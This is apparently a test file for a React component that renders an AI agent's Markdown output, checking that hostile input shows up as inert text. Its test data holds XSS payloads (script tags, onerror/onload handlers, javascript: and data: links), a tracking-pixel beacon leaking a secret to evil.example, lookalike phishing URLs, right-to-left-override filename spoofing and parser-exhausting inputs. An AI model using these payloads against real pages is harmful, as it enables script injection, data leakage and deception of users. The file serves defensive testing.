// @vitest-environment happy-dom
import { cleanup, render, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { InertText } from './inert-text.js';
import { isCheapMarkdown } from './markdown-cost.js';
import { Markdown } from './markdown.js';

afterEach(cleanup);

async function shown(text: string): Promise<HTMLElement> {
  const { container } = render(<Markdown text={text} />);
  await waitFor(() => expect(container.querySelector('pre[tabindex]')).toBeNull(), { timeout: 10_000 });
  return container;
}

function table(columns: number, rows: number): string {
  return `${'|a'.repeat(columns)}|\n${'|-'.repeat(columns)}|\n${'|b|\n'.repeat(rows)}`;
}

function deeper(lines: number, marks: number): string {
  return Array.from(
    { length: lines },
    (_, line) => `${' '.repeat(2 * marks * line)}${'- '.repeat(marks)}x`,
  ).join('\n');
}

const REPORT = [
  '# Weekly report\n',
  'What was **found** in `packages/policy_shell`, see [the run](https://ci.example/run/7).\n',
  '| Package | Tests | Time | Note |\n| --- | ---: | ---: | --- |',
  ...Array.from({ length: 120 }, (_, n) => `| \`package_${n}\` | ${n} | ${n} ms | **green** on both |`),
  '\n> A quotation\n> > in a quotation\n',
  ...Array.from(
    { length: 100 },
    (_, n) => `- [x] **step ${n}**: \`run_it\` on every machine, and look at what it says afterwards`,
  ),
  '\n```ts\nconst a = b || c;\n```\n',
].join('\n');

describe('Markdown of an agent', () => {
  it('is formatted', async () => {
    const page = await shown('# Report\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n- [x] done\n\n`code`');
    expect(page.querySelector('h1')?.textContent).toBe('Report');
    expect(page.querySelectorAll('td')).toHaveLength(2);
    expect(page.querySelector('input')).toBeNull();
    expect(page.querySelector('li')?.textContent).toContain('[x]');
  });

  it('wants to run a script, load a frame or style the page: it is shown as text', async () => {
    const hostile =
      '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<iframe src="https://evil.example"></iframe>\n\n<style>*{display:none}</style>\n\n<svg onload=alert(1)>';
    const page = await shown(hostile);
    expect(page.querySelectorAll('script, img, iframe, style, svg, object, embed, link, form')).toHaveLength(
      0,
    );
    expect(page.textContent).toContain('<script>alert(1)</script>');
    expect(page.innerHTML).not.toMatch(/<[^>]+\son\w+=/);
  });

  it('wants to tell a host that somebody reads it: no image is loaded, its address is shown', async () => {
    const page = await shown(
      '![pixel](https://evil.example/beacon?secret=1) ![x][r]\n\n[r]: https://evil.example/2',
    );
    expect(page.querySelectorAll('img, picture, source, video, audio')).toHaveLength(0);
    expect(page.textContent).toContain('image not loaded: pixel — https://evil.example/beacon?secret=1');
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '&#106;avascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    '//evil.example/x',
    '/api/auth/logout',
    'blob:https://x',
  ])('wants a press on "%s": there is nothing to press', async (target) => {
    const page = await shown(`[press me](<${target}>) <${target}>`);
    expect(page.querySelectorAll('a')).toHaveLength(0);
    expect(page.textContent).toContain('press me');
  });

  it('a link to the web tells its host beside its words, and carries nothing of ours', async () => {
    const page = await shown('[https://bank.example](https://evil.example/login)');
    const link = page.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://evil.example/login');
    expect(link?.getAttribute('rel')).toContain('noopener');
    expect(link?.getAttribute('rel')).toContain('noreferrer');
    expect(link?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(page.textContent).toContain('(evil.example)');
  });

  it('an address that reads like that of somebody else tells its host, too', async () => {
    const page = await shown('<https://bank.example@evil.example/> https://bank.example:x@evil.example/');
    expect(page.querySelectorAll('a')).toHaveLength(2);
    expect(page.textContent.match(/\(evil\.example\)/g)).toHaveLength(2);
  });

  it('a line of a megabyte is shown in part and parsed by nobody', () => {
    const { container } = render(<Markdown text={'*a'.repeat(524_288)} />);
    expect(container.textContent.length).toBeLessThan(21_000);
    expect(container.textContent).toContain('more characters');
    expect(container.querySelector('em')).toBeNull();
  });

  it.each([
    ['quotes in quotes', '>'.repeat(2500) + 'x'],
    ['lists in lists', '- '.repeat(2000) + 'x'],
    ['lists that go deeper line by line', deeper(14, 100)],
    [
      'lists that go deeper by tabs',
      Array.from({ length: 150 }, (_, n) => '\t'.repeat(n) + '- x').join('\n'),
    ],
    ['many lines of many quotes', ('>'.repeat(60) + 'x\n').repeat(300)],
    ['a table of few bytes and very many cells', table(800, 800)],
    ['a table whose rows have no bar', table(60, 900).replaceAll('|b|', 'b')],
    ['emphasis in emphasis', '*_'.repeat(5000) + 'a' + '_*'.repeat(5000)],
    ['links in links', '['.repeat(1500) + 'a' + ']()'.repeat(1500)],
    ['images that repeat one long address', `${'![a]'.repeat(900)}\n\n[a]: https://e/${'国'.repeat(15_900)}`],
    [
      'an address on the line behind its name',
      `${'[a]'.repeat(300)}\n\n> [a]: \n> https://e/${'x'.repeat(9000)}`,
    ],
    ['very many headings', 'a\n=\n'.repeat(4500)],
    ['a long text', 'word '.repeat(4200)],
  ])('%s: the page lives, shows the text as it is and says so', (_what, text) => {
    const { container } = render(<Markdown text={text} />);
    expect(container.querySelector('p')?.textContent).toMatch(/^Shown unformatted/);
    expect(container.querySelector('pre')?.textContent).toBe(text);
    expect(container.querySelectorAll('*').length).toBeLessThan(5);
  });

  it('lines that end for a person only: the table of what is parsed is counted', () => {
    const row = (cell: string): string => `${cell.repeat(59)}\r`.repeat(13);
    expect(isCheapMarkdown(`${row('|a')}\n${row('|-')}\n${'|b|\n'.repeat(50)}`)).toBe(false);
  });

  it('references to an address as long as is parsed: of each one reads the beginning', async () => {
    const text = `${'![a]'.repeat(400)}\n\n[a]: https://e/${'国'.repeat(480)} "${'t\n'.repeat(400)}"`;
    expect(isCheapMarkdown(text)).toBe(true);
    const page = await shown(text);
    expect(page.textContent.match(/image not loaded: a — https:\/\/e\//g)).toHaveLength(400);
    expect(page.textContent.length).toBeLessThan(400 * 300);
    expect(page.textContent).toContain('more characters');
  });

  it('as long as is shown whole, every character a hidden one: few elements, and the rest is counted', () => {
    const { container } = render(<Markdown text={'\u202e'.repeat(100_000)} />);
    expect(container.querySelectorAll('*').length).toBeLessThan(2010);
    expect(container.textContent).toMatch(/^Shown unformatted.*(RLO){2000} … 98,000 more characters$/);
  });

  it.each([
    ['emphasis in emphasis', '*_'.repeat(490) + 'a' + '_*'.repeat(490)],
    ['quotes in quotes', ('>'.repeat(100) + 'x\n').repeat(19)],
    ['a wide and long table', table(60, 78)],
  ])('%s, as much as is parsed: shown in bounded time', async (_what, text) => {
    expect(isCheapMarkdown(text)).toBe(true);
    const before = process.cpuUsage();
    const { container } = render(<Markdown text={text} />);
    await waitFor(() => expect(container.querySelector('pre[tabindex]')).toBeNull(), { timeout: 20_000 });
    const { user, system } = process.cpuUsage(before);
    expect(user + system).toBeLessThan(10_000_000);
  });

  it('makes the parser fail: the rest of the page lives', async () => {
    vi.spyOn(console, 'error').mockReturnValue();
    vi.doMock('./parsed-markdown.js', () => ({
      ParsedMarkdown: ({ text }: { readonly text: string }) => {
        if (text === 'bad') throw new RangeError('Maximum call stack size exceeded');
        return <em>{text}</em>;
      },
    }));
    vi.resetModules();
    const { Markdown: Failing } = await import('./markdown.js');
    const page = (text: string) => (
      <>
        <Failing text={text} />
        <Failing text="good" />
      </>
    );
    const { container, rerender } = render(page('bad'));
    await waitFor(() => expect(container.querySelector('em')?.textContent).toBe('good'), { timeout: 10_000 });
    expect(container.querySelector('p')?.textContent).toMatch(/^Shown unformatted/);
    expect(container.querySelector('pre')?.textContent).toBe('bad');
    rerender(page('better'));
    await waitFor(() => expect(container.querySelector('em')?.textContent).toBe('better'));
    vi.doUnmock('./parsed-markdown.js');
    vi.restoreAllMocks();
  });

  it('a long honest report is formatted', async () => {
    const page = await shown(REPORT);
    expect(REPORT.length).toBeGreaterThan(14_000);
    expect(page.querySelectorAll('tbody tr')).toHaveLength(120);
    expect(page.querySelectorAll('li')).toHaveLength(100);
    expect(page.textContent).not.toContain('Shown unformatted');
  });

  it.each([
    ['a word', 'invoice&#x202E;gpj&rlm;.exe', 'p'],
    ['code', '`a\u202eb` **&#8238;&ZeroWidthSpace;**', 'strong'],
    ['a heading', '# a&#x202E;b', 'h1'],
    ['the words of a link', '[bank&#8238;moc.live](https://evil.example "a&rlm;b")', 'a'],
    ['a name of an image', '![x&#x202E;y&#13;z](https://evil.example/p "a&#x200b;b")', 'p'],
    ['a cell', '| a&#x2066;b |\n| --- |\n| c&ZeroWidthSpace;d |', 'td'],
    ['a footnote', 'x[^1]\n\n[^1]: y&#x202e;z', 'li'],
    ['HTML that stays text', '<b title="&#x202e;">\u202e</b>', 'p'],
  ])('hidden characters that are written as references are named in %s', async (_what, text, where) => {
    const page = await shown(text);
    expect(page.innerHTML).not.toMatch(/[\u200b\u200f\u202e\u2066\r]/u);
    expect(page.querySelector(where)?.textContent).toMatch(/⟨(RLO|ZWSP)⟩/);
  });

  it('hidden directions are named inside Markdown too', async () => {
    const page = await shown('**invoice\u202egpj.exe**');
    expect(page.querySelector('strong')?.textContent).toBe('invoice⟨RLO⟩gpj.exe');
  });
});

describe('plain text of a stranger', () => {
  it('is text, whatever it looks like, and does not turn its surroundings around', () => {
    const { container } = render(<InertText text={'<b>x</b>\u202e'} />);
    expect(container.querySelector('b')).toBeNull();
    expect(container.querySelector('bdi')?.textContent).toBe('<b>x</b>RLO');
  });
});
